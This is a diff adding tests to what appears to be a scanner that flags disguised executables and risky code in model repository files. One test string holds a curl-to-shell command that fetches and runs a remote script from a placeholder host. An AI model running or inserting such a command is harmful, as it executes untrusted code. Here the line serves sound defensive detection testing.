@@ -227,3 +227,17 @@ def test_programs_under_false_names() -> None:
     assert verdict(b"MZ" + bytes(58) + struct.pack("<I", 64) + b"PE\0\0", "model.safetensors") == "dangerous"
     assert verdict(b"\x7fELF" + bytes(100), "libx.so") == "suspicious"
     assert verdict("<!DOCTYPE html><html></html>", "pytorch_model.bin") == "suspicious"
+
+
+def test_prose_may_begin_lines_like_a_dockerfile() -> None:
+    card = "# Install\n\nFrom the shell:\n\nrun this\n\n```\ncurl -LsSf https://x.test/i.sh | sh\n```\n"
+    assert verdict(card, "installation.md") == "clean"
+    assert verdict(card.replace("From the shell", "FROM python"), "Dockerfile") == "dangerous"
+
+
+def test_what_starts_programs_is_weighed_by_what_it_is_for() -> None:
+    works_out = "import subprocess\ndef go(words):\n    return subprocess.run(words)\n"
+    assert verdict(works_out, "helpers.py") == "suspicious"
+    assert verdict("import transformers\n" + works_out, "modeling.py") == "dangerous"
+    assert verdict("import gradio\n" + works_out, "app.py") == "suspicious"
+    assert verdict("import gradio, os\nos.system('ffmpeg -i a b')\n", "app.py") == "clean"
